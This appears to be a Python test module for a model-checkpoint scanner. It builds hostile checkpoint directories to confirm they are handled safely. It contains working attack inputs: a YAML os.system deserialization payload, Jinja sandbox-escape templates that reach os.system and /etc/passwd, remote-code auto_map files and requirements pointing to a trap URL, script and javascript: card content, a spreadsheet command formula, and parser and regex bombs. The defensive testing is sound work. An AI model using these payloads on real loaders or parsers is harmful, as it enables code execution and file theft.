"""Config, tokenizer, card, licence and code that lie, overflow or would like to be run."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

from forensics.testing.tokenizer import tokenizer_json
from tests.hostile.case import Collection, Traps
from tests.hostile.files import config, put, sound

CASES = Collection("config, tokenizer, texts")


def whole(subject: Mapping[str, Any]) -> None:
    """Whatever the texts say, all tensors were read."""
    assert subject["recognised"] == subject["parameters"] > 0
    assert subject["architecture"]["layers"] == 2


def with_config(number: str, title: str, codes: tuple[str, ...] = (), **changed: Any) -> None:
    """A sound checkpoint whose config says that."""
    CASES.case(number, f"the config {title}", codes=codes, check=whole)(
        lambda path, _: config(path, **changed) and None
    )


def raw_config(number: str, title: str, content: str | bytes, code: str, **expected: Any) -> None:
    """A sound checkpoint whose config.json is these bytes."""

    def build(path: Path, _: Traps) -> None:
        sound(path)
        put(path, "config.json", content)

    CASES.case(number, f"the config {title}", codes=(code,), check=whole, **expected)(build)


CODE = {
    "AutoConfig": "evil.EvilConfig",
    "AutoModelForCausalLM": "evil.EvilModel",
    "AutoTokenizer": "evil.Evil",
}


@CASES.case("53", "auto_map and code in config, model and tokenizer", codes=(), check=whole, whole=True)
def remote_code(path: Path, traps: Traps) -> None:
    """Never imported; no question is asked on stdin."""
    config(path, auto_map=CODE, model_type="evil", custom_pipelines={"x": {"impl": "evil.Pipe"}})
    for name in (
        "evil.py",
        "configuration_evil.py",
        "__init__.py",
        "conftest.py",
        "sitecustomize.py",
        "json.py",
    ):
        put(path, name, traps.program)
    put(path, "tokenizer_config.json", json.dumps({"auto_map": {"AutoTokenizer": ["evil.Evil", None]}}))
    put(path, "tokenizer.json", json.dumps(tokenizer_json()))


@CASES.case("53a", "code of other names and kinds beside the weights", codes=(), check=whole)
def more_code(path: Path, traps: Traps) -> None:
    """What a careless tool imports, installs or runs."""
    sound(path)
    for name in (
        "setup.py",
        "handler.py",
        "modeling_llama.py",
        "model.pth",
        "x.pth",
        "numpy.py",
        "a/__init__.py",
    ):
        put(path, name, traps.program)
    put(path, "requirements.txt", f"evil @ {traps.url}evil.tar.gz")
    put(path, "pyproject.toml", f'[build-system]\nrequires=["evil @ {traps.url}"]')
    put(path, "__pycache__/evil.cpython-311.pyc", b"\xa7\r\r\n" + bytes(12))


@CASES.case(
    "54", "options that make loaders run or read things", codes=("QUANT_MISMATCH",), more=True, check=whole
)
def options(path: Path, traps: Traps) -> None:
    """Dropped by the allow-list."""
    secret = str(traps.secret)
    config(path, _attn_implementation_internal=f"{traps.url}kernel", trust_remote_code=True, use_kernels=secret,
           quantization_config={"quant_method": "gptq", "dataset": secret, "bits": 4, "modules": [secret]},
           _name_or_path=secret, tokenizer_file=secret, vocab_file=secret, torchscript=True)  # fmt: skip


HUGE = 1_000_000_000
with_config("55", "declares 10^9 layers", ("CONFIG_MISMATCH",), num_hidden_layers=HUGE)
with_config("55a", "declares 10^9 labels", num_labels=HUGE, id2label={"0": "x"})
with_config("55b", "declares a width of 2^62", hidden_size=1 << 62)
with_config("55c", "declares no heads", num_attention_heads=0, num_key_value_heads=0)
with_config(
    "55d", "declares sizes as texts", num_hidden_layers="two", hidden_size="8", num_attention_heads="x"
)
with_config("55e", "declares negative sizes", num_hidden_layers=-2, hidden_size=-8, head_dim=-4)
with_config(
    "55f", "declares sizes as lists", num_hidden_layers=[2], hidden_size={"x": 8}, num_attention_heads=[2, 2]
)
with_config("55g", "declares more heads than numbers", num_attention_heads=10**8, num_key_value_heads=10**8)
with_config("55h", "declares as many experts as it can", num_local_experts=HUGE, num_experts=HUGE)
with_config("55i", "has a type of 3 MB", model_type="x" * 3_000_000)
with_config("55j", "has a type that is a path", model_type="../../../etc/passwd")
with_config(
    "55k", "declares heads that do not divide the width", num_attention_heads=7, num_key_value_heads=3
)
with_config(
    "55l",
    "hides another in text_config",
    ("CONFIG_MISMATCH",),
    text_config={"hidden_size": 1 << 40, "num_hidden_layers": HUGE, "model_type": "gemma"},
)
raw_config("55m", "holds NaN", '{"model_type":"llama","hidden_size":NaN}', "JSON_NOT_FINITE")
raw_config("55n", "holds infinity", '{"rope_theta":-Infinity}', "JSON_NOT_FINITE")
raw_config("55o", "has a number of 10 000 digits", '{"hidden_size":' + "9" * 10_000 + "}", "JSON")
raw_config("55p", "names a key twice", '{"hidden_size":8,"hidden_size":9}', "JSON_DUP_KEY")
raw_config("55q", "is a list", "[1]", "CONFIG")
raw_config("55r", "is not UTF-8", b"\xff\xfe\x00{", "JSON")
raw_config("55s", "is empty", b"", "JSON")
raw_config("56", "is nested 200 000 deep", '{"a":' * 200_000 + "1" + "}" * 200_000, "JSON")
raw_config("56a", "is cut at its limit of 4 MB", '{"a":"' + "x" * 5_000_000 + '"}', "JSON")


def with_card(number: str, title: str, head: str, **expected: Any) -> None:
    """A sound checkpoint with a model card of this head."""

    def build(path: Path, _: Traps) -> None:
        sound(path)
        put(path, "README.md", head)

    CASES.case(number, f"the card {title}", codes=(), check=whole, **expected)(build)


BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)
)
with_card("56b", "is a YAML bomb of aliases", f"---\nlicense: mit\n{BOMB}---\n# x", whole=True)
with_card("56c", "asks YAML for an object", "---\nx: !!python/object/apply:os.system ['touch canary']\n---\n")
with_card("56d", "is YAML nested 30 000 deep", "---\nx: " + "[" * 30_000 + "\n---\n")
with_card("56e", "has a head without end", "---\n" + "a: b\n" * 200_000)
with_card("56f", "merges itself", "---\na: &a\n  <<: *a\n---\n")


def with_tokenizer(number: str, title: str, content: Any, *codes: str, **expected: Any) -> None:
    """A sound checkpoint with this tokenizer.json."""

    def build(path: Path, _: Traps) -> None:
        sound(path)
        put(path, "tokenizer.json", content() if callable(content) else content)

    CASES.case(number, f"the tokenizer {title}", codes=codes, check=whole, **expected)(build)


def changed(**parts: Any) -> Callable[[], str]:
    """A sound tokenizer with these top-level parts instead."""
    return lambda: json.dumps({**tokenizer_json(), **parts})


def vocabulary(vocab: Any) -> str:
    """A BPE tokenizer of that vocabulary."""
    return json.dumps({"model": {"type": "BPE", "vocab": vocab, "merges": []}})


def crowded() -> str:
    """A vocabulary beyond the limit."""
    return '{"model":{"vocab":{' + ",".join(f'"{i}":{i}' for i in range(2_500_000)) + "}}}"


SPLIT = {"type": "Split", "pattern": {"Regex": "(a+)+$"}, "behavior": "Isolated", "invert": False}
REPLACE = {"type": "Replace", "pattern": {"String": "a"}, "content": "b" * 10_000_000}
PADDING = {"strategy": {"Fixed": HUGE}, "direction": "Right", "pad_id": 0, "pad_type_id": 0, "pad_token": "x"}
with_tokenizer("57", "splits by a catastrophic expression", changed(pre_tokenizer=SPLIT), whole=True)
with_tokenizer("57a", "replaces a letter by 10 MB", changed(normalizer=REPLACE))
with_tokenizer("57b", "pads to a thousand million", changed(padding=PADDING))
with_tokenizer("59", "has an id of 2^32 - 1", vocabulary({"a": (1 << 32) - 1, "b": 1}))
with_tokenizer("59a", "gives one id to all tokens", vocabulary({f"t{i}": 1 for i in range(5_000)}))
with_tokenizer("59b", "has 2.5 million tokens", crowded, "TOKENIZER", megabytes=900, slow=True)
with_tokenizer(
    "59c",
    "adds 200 000 tokens",
    changed(added_tokens=[{"id": i, "content": f"<{i}>"} for i in range(200_000)]),
    megabytes=400,
)
with_tokenizer(
    "59d",
    "has ids that are negative, floats and texts",
    vocabulary({"a": -1, "b": 1.5, "c": "3", "d": None, "e": True}),
)
with_tokenizer("59e", "is nested 100 000 deep", '{"model":' + "[" * 100_000, "JSON")
with_tokenizer("59f", "has no model", "{}", "TOKENIZER")
with_tokenizer(
    "59g",
    "is larger than its limit",
    lambda: '{"model":"' + "x" * 70_000_000 + '"}',
    "TOKENIZER_SIZE",
    slow=True,
)
with_tokenizer(
    "59h", "has lone surrogates for tokens", '{"model":{"type":"BPE","vocab":{"\\ud800":0,"\\udfff":1}}}'
)
with_tokenizer("59i", "has a token of 5 MB", vocabulary({"x" * 5_000_000: 0}))
with_tokenizer(
    "59j",
    "has merges of every wrong kind",
    json.dumps({"model": {"vocab": {"a": 0}, "merges": [1, [], ["a"], "a", "a b c", [1, 2], None]}}),
)


@CASES.case("60", "a SentencePiece model is corrupt", codes=("TOKENIZER_PROTOBUF",), check=whole)
def sentencepiece(path: Path, _: Traps) -> None:
    """A field of 2^63 bytes; refused before anything is cut out."""
    sound(path)
    put(path, "tokenizer.model", b"\x0a" + b"\xff" * 8 + b"\x7f" + bytes(64))


@CASES.case(
    "60a", "every kind of tokenizer is corrupt", codes=("TOKENIZER", "TOKENIZER_PROTOBUF"), check=whole
)
def every_kind(path: Path, _: Traps) -> None:
    """Eight million empty pieces, ranks that are no Base64, a tekken.json and a vocab.json without tokens."""
    sound(path)
    put(path, "spiece.model", b"\x0a\x00" * 7_999_999)
    put(path, "x.tiktoken", b"!!!! 0\n" * 1_000)
    put(path, "tekken.json", '{"config": {"default_num_special_tokens": 1e9}, "vocab": [0]}')
    put(path, "vocab.json", '{"a": 4294967296}')


TEMPLATES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for a in range(10**9) %}{% for b in range(10**9) %}x{% endfor %}{% endfor %}",
    "{{ 'a' * 10**10 }}",
    "{% include '/etc/passwd' %}{% import 'os' as os %}",
    "{{ cycler.__init__.__globals__.os.system('touch canary') }}",
    "{% raw %}" * 10_000,
    "{{" * 50_000,
)


@CASES.case("61", "a chat template would escape its sandbox", codes=(), check=whole)
def template(path: Path, _: Traps) -> None:
    """Text, never rendered."""
    sound(path)
    put(path, "tokenizer.json", json.dumps(tokenizer_json()))
    put(path, "tokenizer_config.json", json.dumps({"chat_template": TEMPLATES[0]}))
    put(path, "chat_template.jinja", "\n".join(TEMPLATES))
    for i, one in enumerate(TEMPLATES):
        put(path, f"additional_chat_templates/{i}.jinja", one)


@CASES.case("61a", "the chat template is a tree of lists", codes=(), check=whole)
def listed_template(path: Path, _: Traps) -> None:
    """Not a text at all."""
    sound(path)
    put(path, "tokenizer.json", json.dumps(tokenizer_json()))
    put(
        path,
        "tokenizer_config.json",
        json.dumps({"chat_template": [{"name": "x", "template": [[[]]]}] * 1_000}),
    )


@CASES.case("64", "a README of 50 MB with a word of 1 MB", codes=(), check=whole)
def long_card(path: Path, _: Traps) -> None:
    """Cut at its budget."""
    sound(path)
    put(path, "README.md", "w" * 1_000_000 + "\n" + "x y\n" * 12_000_000)


@CASES.case("65", "a licence of 2 GB", codes=(), check=whole)
def long_licence(path: Path, _: Traps) -> None:
    """Sparse; neither read nor hashed whole."""
    sound(path)
    with (path / "LICENSE").open("wb") as file:
        file.truncate(2 << 30)


@CASES.case("65a", "a licence of random bytes", codes=(), check=whole)
def binary_licence(path: Path, _: Traps) -> None:
    """Every byte there is."""
    sound(path, LICENSE=bytes(range(256)) * 2_000)


@CASES.case("66", "code of 10 MB in one line", codes=(), check=whole)
def one_liner(path: Path, _: Traps) -> None:
    """Read as text."""
    sound(path)
    put(path, "modeling_x.py", "x=" + "1+" * 5_000_000 + "1")


@CASES.case("66a", "code nested 100 000 deep, and code that is none", codes=(), check=whole)
def nested_code(path: Path, _: Traps) -> None:
    """No parser sees it."""
    sound(path)
    put(path, "modeling_y.py", "(" * 100_000)
    put(path, "modeling_z.py", "def (:\n\x00\xff")
    put(path, "modeling_w.py", "# -*- coding: unknown -*-\n")


@CASES.case("62", "a card that would fetch, run and draw", codes=(), check=whole)
def fetching_card(path: Path, traps: Traps) -> None:
    """Literal text."""
    sound(path)
    put(
        path,
        "README.md",
        f"""---
license: <img src=file://{traps.secret}>
base_model: "<link rel=attachment href=file://{traps.secret}>"
model_name: javascript:alert(1)
---
<style>@import url({traps.url}x.css)</style><svg><image href="{traps.url}x.png"/></svg>
Copyright 2024 <script src={traps.url}></script>
""",
    )


@CASES.case("63", "names and texts with escapes, links and formulas", codes=(), check=whole)
def steering(path: Path, _: Traps) -> None:
    """Escaped wherever they are shown."""
    config(path, model_type="\x1b[2J\x1b]8;;http://x\x07llama\u202e", architectures=["=cmd|' /C calc'!A0"])
    put(
        path,
        "README.md",
        '---\nbase_model: "\\e]0;x\\a\\u202e"\n---\nCopyright 2024 \x1b[31m\u202eevil\u2066\n',
    )


@CASES.case("+30", "a dozen small files of 4 MB each", codes=(), check=whole)
def many_texts(path: Path, _: Traps) -> None:
    """Beyond the budget for all texts."""
    sound(path)
    for i in range(12):
        put(path, f"notes-{i}.md", f"{i} " + "llama qwen mistral " * 200_000)


@CASES.case("+31", "texts that make expressions backtrack", codes=(), check=whole)
def backtracking(path: Path, _: Traps) -> None:
    """Quotes, brackets and notices without end."""
    sound(path)
    put(path, "generation_config.json", '{"architectures": [' + '"\\' * 400_000)
    put(path, "README.md", "Copyright (c) " * 70_000)
    put(path, "NOTICE.txt", "((((" * 200_000)
    put(path, "x.json", '"auto_map": {' * 60_000)


@CASES.case("+32", "a text file is a link to a device and a pipe", codes=(), check=whole)
def odd_texts(path: Path, _: Traps) -> None:
    """Neither is waited for."""
    import os

    sound(path)
    (path / "README.md").symlink_to("/dev/zero")
    os.mkfifo(path / "LICENSE")
